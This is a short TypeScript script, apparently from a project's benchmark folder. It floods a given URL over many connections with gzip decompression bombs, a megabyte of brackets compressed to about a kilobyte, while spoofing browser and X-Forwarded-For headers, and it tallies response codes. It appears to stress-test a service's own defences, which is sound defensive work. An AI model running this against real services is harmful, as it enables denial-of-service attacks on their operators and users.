/**
 * One sender without the key that wants to keep a service busy:
 * `node dist/bench/attack/attacker.js <url> <seconds> <connections>`.
 * Each connection sends the next bomb as soon as the last is answered: 1 MiB of brackets, gzipped, about a kilobyte on
 * the wire. Prints one line of JSON: how many requests were answered with each status.
 */
import { gzipSync } from 'node:zlib';
import { drive, requestOf } from '../drive.ts';

const [url = '', seconds = '5', connections = '8'] = process.argv.slice(2);
const counts: Record<string, number> = {};
const bomb = requestOf(url, gzipSync('['.repeat(1024 * 1024)), {
  'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
  'X-Forwarded-For': '203.0.113.9',
  'Content-Encoding': 'gzip',
});

await drive({
  url,
  connections: Number(connections),
  seconds: Number(seconds),
  next: () => bomb,
  // The service closes connections.
  reopens: true,
  onResponse(status) {
    const code = status.slice(9, 12);
    counts[code] = (counts[code] ?? 0) + 1;
  },
});
process.stdout.write(`${JSON.stringify(counts)}\n`);
